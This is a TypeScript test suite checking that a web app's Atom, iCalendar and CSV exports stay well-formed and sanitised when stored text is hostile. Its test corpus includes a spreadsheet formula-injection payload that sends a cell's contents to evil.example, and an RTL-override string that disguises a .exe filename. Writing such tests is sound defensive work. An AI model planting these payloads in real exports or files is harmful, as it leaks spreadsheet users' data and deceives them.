// Text hygiene on the way out: whatever text is stored (typed into a form, synced from PyPI or
// GitHub, left in an old row), every feed and export stays readable by a real parser of its format
// and shows the text as cleanText (app/utils/text.ts) leaves it. The hostile corpus is written
// straight into the database (data from other sources) and, where a form exists, posted through it.
import { eq, inArray } from "drizzle-orm";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import ICAL from "ical.js";
import { parse as parseCsv } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import { APP, context, importRoute, world, type World, MATRIX_PACKAGE } from "./world.ts";

process.env.APP_URL = APP;
const { db, schema } = await import("#app/utils/db.server.ts");
const { cleanText, isCleanText } = await import("#app/utils/text.ts");
const { callKindLabels } = await import("#app/models/calls/forms.ts");
const newCall = await import("#app/routes/calls.new.tsx");
const editProgram = await import("#app/routes/programs.$slug.edit.tsx");

const emoji = "😀".repeat(2_600); // 10.4 KB of UTF-8, 5,200 UTF-16 code units
/** Text no form of ours would let through, and text that is fine but hard to carry in a format. */
const corpus: Record<string, string> = {
  "a NUL inside": "before\u0000after",
  "five NULs": "\u0000\u0000\u0000\u0000\u0000",
  "U+FFFF": "feed\uffffbreaker",
  "U+FFFE": "\ufffeleading noncharacter",
  "a lone high surrogate": "half \ud83d of an emoji",
  "a lone low surrogate": "\ude00 trailing half",
  "surrogates the wrong way round": "\ude00\ud83d",
  "C0 controls and DEL": "bell\u0007 vt\u000b ff\u000c esc\u001b del\u007f us\u001f",
  "a bare CR": "first line\rsecond line",
  "CRLF, LF and a trailing CR": "one\r\ntwo\nthree\r",
  "a leading tab": "\tindented",
  "semicolons alone": "a;b;c",
  "semicolons and commas": "a;b,c; d,",
  quotes: `"double" 'single' "" end"`,
  backslashes: "C:\\new\\table \\n \\; \\,",
  "a spreadsheet formula": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "a leading plus": "+1",
  "a leading minus": "-2+3",
  "a leading at": "@x",
  markup: "<title>x</title> &amp; ]]> <!-- --> <![CDATA[",
  "10 KB of emoji": emoji,
  "10 KB of emoji after one byte (splits pairs when cut at an even offset)": `x${emoji}`,
  "an RTL override": "\u202etxt.exe\u202c file",
};
const entries = Object.entries(corpus);

/** What a spreadsheet cell must hold: formula-leading text is defused with a leading quote. */
const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** XML 1.0 §2.2 Char: what a well-formed document may contain at all. */
const XML_CHARS = /^[\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u;

const xml = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: "@",
  trimValues: false,
  parseTagValue: false,
  // Decodes character references (&#13;), as every XML parser must.
  htmlEntities: true,
  isArray: (name) => ["entry", "category", "link"].includes(name),
});

type AtomEntry = {
  id: string;
  title: string;
  summary: { "#text": string } | string;
  author?: { name: string };
  category?: { "@label": string }[];
};

/**
 * The body as UTF-8. A U+FFFD that the stored text does not hold is a lone surrogate the encoder had to
 * replace: text cut inside a character (a summary shortened by UTF-16 code units) and never cleaned.
 */
function utf8(bytes: Uint8Array, stored?: string): string {
  const body = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
  if (stored !== undefined && !stored.includes("\ufffd"))
    expect(body.includes("\ufffd"), "U+FFFD in the output").toBe(false);
  return body;
}

/** Reads an Atom response the way a feed reader does; fails on anything a conforming parser refuses. */
async function readAtom(response: Response, stored?: string): Promise<AtomEntry[]> {
  expect(response.status).toBe(200);
  const body = utf8(new Uint8Array(await response.arrayBuffer()), stored);
  expect(XMLValidator.validate(body)).toBe(true);
  const bad = [...body].filter((ch) => !XML_CHARS.test(ch));
  expect(bad.map((ch) => `U+${ch.codePointAt(0)!.toString(16).toUpperCase()}`)).toEqual([]);
  const feed = xml.parse(body) as { feed: { entry?: AtomEntry[] } };
  return feed.feed.entry ?? [];
}
const text = (value: AtomEntry["summary"]) => (typeof value === "string" ? value : value["#text"]);

/** iCalendar TEXT has one line break, `\n` (RFC 5545 §3.3.11): a CRLF in the text comes back as LF. */
const icsClean = (text: string) => cleanText(text).replace(/\r\n/g, "\n");

/** Reads an iCalendar response; checks the line rules ical.js is lenient about. */
async function readIcs(response: Response, stored?: string) {
  expect(response.status).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  const body = utf8(bytes, stored);
  expect(body.endsWith("\r\n")).toBe(true);
  const lines = body.slice(0, -2).split("\r\n");
  // §3.1: lines end with CRLF (no stray CR or LF inside one), at most 75 octets, and a fold never
  // cuts a UTF-8 sequence (each physical line decodes on its own).
  expect(lines.filter((l) => /[\r\n]/.test(l))).toEqual([]);
  expect(lines.filter((l) => Buffer.byteLength(l) > 75)).toEqual([]);
  let offset = 0;
  for (const line of lines) {
    const length = Buffer.byteLength(line);
    expect(() =>
      new TextDecoder("utf-8", { fatal: true }).decode(bytes.subarray(offset, offset + length)),
    ).not.toThrow();
    offset += length + 2;
  }
  const calendar = new ICAL.Component(ICAL.parse(body));
  return calendar.getAllSubcomponents("vevent").map((e) => ({
    uid: String(e.getFirstPropertyValue("uid")),
    summary: String(e.getFirstPropertyValue("summary")),
    description: String(e.getFirstPropertyValue("description")),
    url: String(e.getFirstPropertyValue("url")),
  }));
}

/** Reads a CSV response as a spreadsheet import would; every record must have the header's width. */
async function readCsv(response: Response, stored?: string): Promise<string[][]> {
  expect(response.status).toBe(200);
  const body = utf8(new Uint8Array(await response.arrayBuffer()), stored);
  expect(body.endsWith("\r\n")).toBe(true);
  const rows = parseCsv(body, { record_delimiter: "\r\n" }) as string[][];
  expect(rows.filter((r) => r.length !== rows[0]!.length)).toEqual([]);
  // Spreadsheets in many locales split on `;`: a cell holding one must have come quoted.
  const unquoted = rows.flat().filter((cell) => cell.includes(";") && !body.includes(`"${cell.replace(/"/g, '""')}"`));
  expect(unquoted).toEqual([]);
  return rows;
}

/** A GET of a feed, answered by its route module's loader as Remix would call it. */
async function feed(route: string, path: string, params: Record<string, string> = {}, cookie?: string) {
  const mod = await importRoute(route);
  return (await mod.loader!({ request: get(path, cookie), params, context })) as Response;
}

const get = (path: string, cookie?: string) =>
  new Request(`${APP}${path}`, { headers: cookie ? { Cookie: cookie } : {} });
const post = (path: string, cookie: string, form: Record<string, string | string[]>) => {
  const body = new URLSearchParams();
  for (const [k, v] of Object.entries(form)) for (const one of [v].flat()) body.append(k, one);
  return new Request(`${APP}${path}`, { method: "POST", headers: { Cookie: cookie, Origin: APP }, body });
};

async function statusOf(run: () => unknown): Promise<number> {
  try {
    const result = await run();
    if (result instanceof Response) return result.status;
    return (result as { init?: { status?: number } | null })?.init?.status ?? 200;
  } catch (thrown) {
    if (thrown instanceof Response) return thrown.status;
    throw thrown;
  }
}

const DAY = 86_400_000;
const now = Date.now();
const today = new Date(now).toISOString().slice(0, 10);
/** 1 ms into last month: reports.atom lists completed months only. */
const lastMonth = (() => {
  const d = new Date(now);
  return Date.UTC(d.getUTCFullYear(), d.getUTCMonth() - 1, 1) + 1;
})();

let w: World;
const ids = { pkg: 0, call: 0, oldCall: 0, roadie: 0, program: 0, programSlug: "hostile-programme", release: "" };
const REVIEW = "djangonaut-space-demo-session";

beforeAll(async () => {
  w = await world();
  const [pkg] = await db()
    .insert(schema.packages)
    .values({ name: "hostile-pkg", normalizedName: "hostile-pkg", createdAt: now, updatedAt: now })
    .returning();
  ids.pkg = pkg!.id;
  await db().insert(schema.skills).values({ id: "hostile-skill", name: "Hostile", group: "Other", position: 999 });
  const call = {
    packageId: ids.pkg,
    kind: "co-maintainer" as const,
    title: "placeholder",
    description: "placeholder",
    hoursPerWeek: 3,
    urgency: "normal" as const,
    expiresOn: new Date(now + 30 * DAY).toISOString().slice(0, 10),
    updatedAt: now,
  };
  // The newest call (first in /calls.atom) and one posted last month (in last month's report).
  const [newest] = await db()
    .insert(schema.calls)
    .values({ ...call, createdAt: now + 60_000 })
    .returning();
  const [old] = await db()
    .insert(schema.calls)
    .values({ ...call, createdAt: lastMonth })
    .returning();
  ids.call = newest!.id;
  ids.oldCall = old!.id;
  await db().insert(schema.callSkills).values({ callId: ids.call, skillId: "hostile-skill", level: "expert" });

  // A roadie who joined last month and a programme with an application last month (report sections).
  const [roadie] = await db()
    .insert(schema.users)
    .values({ githubId: 8_100_001, login: "hostile-roadie", createdAt: now, updatedAt: now })
    .returning();
  ids.roadie = roadie!.id;
  await db()
    .insert(schema.memberships)
    .values({
      userId: ids.roadie,
      role: "roadie",
      status: "active",
      startedAt: lastMonth,
      termEndsAt: now + 300 * DAY,
    });
  const [program] = await db()
    .insert(schema.programs)
    .values({
      slug: ids.programSlug,
      name: "Hostile programme",
      organisation: "Hostile",
      seasonStart: today,
      seasonEnd: today,
      opensOn: today,
      closesOn: today,
      windowTimezone: "AoE",
      opensAt: now,
      closesAt: now,
      createdAt: now,
      updatedAt: now,
    })
    .returning();
  ids.program = program!.id;
  const [role] = await db()
    .insert(schema.programRoles)
    .values({ programId: ids.program, name: "Participant", capacity: 1 })
    .returning();
  await db().insert(schema.applications).values({
    programId: ids.program,
    roleId: role!.id,
    userId: ids.roadie,
    status: "submitted",
    submittedAt: lastMonth,
    createdAt: lastMonth,
    updatedAt: lastMonth,
  });
  // A release supported today with a date, so that its version is a label in the ecosystem CSV.
  ids.release = "hostile-release";
  await db().insert(schema.djangoReleases).values({
    version: ids.release,
    sortKey: 1,
    lts: false,
    releaseDate: "2000-01-01",
    extendedSupportEnd: "2999-12-31",
    status: "released",
  });
}, 120_000);

/** Writes one hostile text into every stored field that reaches a feed or an export. */
async function store(text: string) {
  await db().update(schema.packages).set({ name: text, description: text }).where(eq(schema.packages.id, ids.pkg));
  await db().update(schema.skills).set({ name: text }).where(eq(schema.skills.id, "hostile-skill"));
  await db()
    .update(schema.calls)
    .set({ title: text, description: text })
    .where(inArray(schema.calls.id, [ids.call, ids.oldCall]));
  await db().update(schema.users).set({ login: text, name: text }).where(eq(schema.users.id, ids.roadie));
  await db()
    .update(schema.programs)
    .set({ slug: text, name: text, windowTimezone: text })
    .where(eq(schema.programs.id, ids.program));
  await db().update(schema.djangoReleases).set({ version: text }).where(eq(schema.djangoReleases.version, ids.release));
  ids.release = text;

  // The review export of the demo programme: people, roles, projects, questions and answers.
  const review = (await db().select().from(schema.programs).where(eq(schema.programs.slug, REVIEW)).get())!;
  const apps = await db().select().from(schema.applications).where(eq(schema.applications.programId, review.id)).all();
  await db()
    .update(schema.users)
    .set({ name: text })
    .where(
      inArray(
        schema.users.id,
        apps.map((a) => a.userId),
      ),
    );
  const roles = await db().select().from(schema.programRoles).where(eq(schema.programRoles.programId, review.id)).all();
  // Role names are unique per programme: the first gets the text, the others a numbered variant.
  for (const [i, role] of roles.entries()) {
    await db()
      .update(schema.programRoles)
      .set({ name: i === 0 ? text : `${text} ${i}` })
      .where(eq(schema.programRoles.id, role.id));
  }
  await db()
    .update(schema.mentoringProjects)
    .set({ title: text })
    .where(eq(schema.mentoringProjects.programId, review.id));
  await db()
    .update(schema.programQuestions)
    .set({ label: text })
    .where(eq(schema.programQuestions.programId, review.id));
  await db()
    .update(schema.applicationAnswers)
    .set({ value: text })
    .where(
      inArray(
        schema.applicationAnswers.applicationId,
        apps.map((a) => a.id),
      ),
    );
  return (await db().select().from(schema.calls).where(eq(schema.calls.id, ids.call)).get())!.title;
}

/** The review programme's exported applications as stored: id, login, role name, project titles. */
async function reviewRows() {
  const review = (await db().select().from(schema.programs).where(eq(schema.programs.slug, REVIEW)).get())!;
  const [apps, users, roles, projects] = await Promise.all([
    db().select().from(schema.applications).where(eq(schema.applications.programId, review.id)).all(),
    db().select().from(schema.users).all(),
    db().select().from(schema.programRoles).all(),
    db().select().from(schema.mentoringProjects).where(eq(schema.mentoringProjects.programId, review.id)).all(),
  ]);
  return apps
    .filter((a) => a.status === "submitted" || a.status === "withdrawn")
    .sort((a, b) => a.id - b.id)
    .map((a) => ({
      id: a.id,
      login: users.find((u) => u.id === a.userId)!.login,
      role: roles.find((r) => r.id === a.roleId)!.name,
      projects: a.projectRanking.map((id) => projects.find((p) => p.id === id)?.title ?? `#${id}`).join(" > "),
    }));
}

describe("the hostile corpus written straight into the database", () => {
  test("every Atom feed is well-formed XML whatever the stored text, and shows the cleaned text", async () => {
    for (const [name, written] of entries) {
      const raw = await store(written); // as the database gives it back
      const clean = cleanText(raw);

      const calls = await readAtom(await feed("calls[.]atom", "/calls.atom"), raw);
      const entry = calls.find((e) => e.id.endsWith(`:call:${ids.call}`));
      expect(entry, name).toBeDefined();
      expect(entry!.title, name).toBe(cleanText(`${raw}: ${raw}`));
      expect(entry!.author?.name, name).toBe(cleanText(`${raw} maintainers`));
      expect(
        entry!.category?.map((c) => c["@label"]),
        name,
      ).toEqual([clean]);
      expect(
        text(entry!.summary).startsWith(cleanText(`${callKindLabels["co-maintainer"]} · ${raw} · 3 h/week.`)),
        name,
      ).toBe(true);

      const reports = await readAtom(await feed("reports[.]atom", "/reports.atom"), raw);
      const month = new Date(lastMonth).toISOString().slice(0, 7);
      const report = reports.find((e) => e.id.endsWith(`/reports/${month}`));
      expect(report, name).toBeDefined();
      expect(text(report!.summary), name).toMatch(/new calls? for help/);
    }
  }, 300_000);

  test("the calendar is valid iCalendar whatever the stored text, and shows the cleaned text", async () => {
    for (const [name, written] of entries) {
      const raw = await store(written); // as the database gives it back
      const events = await readIcs(await feed("calendar[.]ics", "/calendar.ics"), raw);
      const opens = events.find((e) => e.uid === icsClean(`program-${raw}-opens@roadies`));
      expect(opens, name).toBeDefined();
      expect(opens!.summary, name).toBe(icsClean(`${raw}: applications open`));
      expect(opens!.description, name).toBe(icsClean(`Applications to ${raw} open on ${today} (${raw}).`));
      // One URI pointing at the programme: the text cannot spill out of it.
      expect(opens!.url, name).toBe(`${APP}/programs/${encodeURIComponent(cleanText(raw))}`);
      const release = events.find((e) => e.uid === icsClean(`django-${raw}-releaseDate@roadies`));
      expect(release, name).toBeDefined();
      expect(release!.summary, name).toBe(icsClean(`Django ${raw}: final release`));
    }
  }, 300_000);

  test("every CSV export parses to equal-width rows whatever the stored text, cleaned and formula-guarded", async () => {
    const admin = (await w.cookie("admin"))!;
    for (const [name, written] of entries) {
      const raw = await store(written); // as the database gives it back
      const clean = guarded(cleanText(raw));

      const eco = await readCsv(await feed("ecosystem[.]csv", "/ecosystem.csv"), raw);
      expect(
        eco.filter((r) => r[0] === "django_support").map((r) => r[1]),
        name,
      ).toContain(clean);

      const review = await readCsv(
        await feed("programs.$slug.review[.]csv", `/programs/${REVIEW}/review.csv`, { slug: REVIEW }, admin),
        raw,
      );
      const [header, ...rows] = review;
      const column = (title: string) => header!.indexOf(title);
      const questionCount = header!.length - column("project_preferences") - 1;
      expect(questionCount, name).toBeGreaterThan(0);
      for (const label of header!.slice(-questionCount)) {
        expect([clean, guarded(cleanText(`${raw} (removed)`))], name).toContain(label);
      }
      // What each row must show, from the stored rows: role names and project rankings differ per row.
      const stored = await reviewRows();
      expect(
        rows.map((r) => Number(r[column("application_id")])),
        name,
      ).toEqual(stored.map((a) => a.id));
      for (const [i, row] of rows.entries()) {
        expect(row[column("login")], name).toBe(guarded(cleanText(stored[i]!.login)));
        expect(row[column("name")], name).toBe(clean);
        expect(row[column("role")], name).toBe(guarded(cleanText(stored[i]!.role)));
        expect(row[column("project_preferences")], name).toBe(guarded(cleanText(stored[i]!.projects)));
        for (const answer of row.slice(-questionCount)) expect(["", clean], name).toContain(answer);
      }
    }
  }, 300_000);
});

describe("the hostile corpus posted through the forms", () => {
  test("a call posted with hostile text is refused or stored clean, and /calls.atom shows it exactly", async () => {
    const maintainer = (await w.cookie("maintainer"))!;
    const skill = (await db().select().from(schema.skills).where(eq(schema.skills.id, "orm-migrations")).get())!;
    for (const [name, raw] of entries) {
      // The posting limit has its own test; here each post starts with fresh counters.
      await db().delete(schema.rateLimits);
      const status = await statusOf(() =>
        newCall.action({
          request: post("/calls/new", maintainer, {
            package: MATRIX_PACKAGE,
            kind: "documentation",
            title: raw,
            description: `${raw} — and enough words to pass the length check.`,
            skills: `${skill.id}:comfortable`,
            hoursPerWeek: "2",
            urgency: "normal",
          }),
          params: {},
          context,
        }),
      );
      expect([302, 400], name).toContain(status);
      if (status !== 302) continue;
      const stored = (
        await db()
          .select()
          .from(schema.calls)
          .where(eq(schema.calls.kind, "documentation"))
          .orderBy(schema.calls.id)
          .all()
      ).at(-1)!;
      expect(isCleanText(stored.title) && isCleanText(stored.description), name).toBe(true);
      const calls = await readAtom(await feed("calls[.]atom", "/calls.atom"));
      expect(calls.find((e) => e.id.endsWith(`:call:${stored.id}`))?.title, name).toBe(
        `${MATRIX_PACKAGE}: ${stored.title}`,
      );
    }
  }, 300_000);

  test("a programme renamed with hostile text is refused or stored clean, and /calendar.ics shows it exactly", async () => {
    const admin = (await w.cookie("admin"))!;
    const slug = "gsoc-django-demo-round";
    const { defaults } = (await editProgram.loader({
      request: get(`/programs/${slug}/edit`, admin),
      params: { slug },
      context,
    })) as {
      defaults: Record<string, string>;
    };
    for (const [name, raw] of entries) {
      const status = await statusOf(() =>
        editProgram.action({
          request: post(`/programs/${slug}/edit`, admin, { ...defaults, name: raw }),
          params: { slug },
          context,
        }),
      );
      expect([302, 400], name).toContain(status);
      if (status !== 302) continue;
      const stored = (await db().select().from(schema.programs).where(eq(schema.programs.slug, slug)).get())!;
      expect(isCleanText(stored.name), name).toBe(true);
      const events = await readIcs(await feed("calendar[.]ics", "/calendar.ics"));
      expect(events.find((e) => e.uid === `program-${slug}-opens@roadies`)?.summary, name).toBe(
        icsClean(`${stored.name}: applications open`),
      );
    }
  }, 300_000);
});
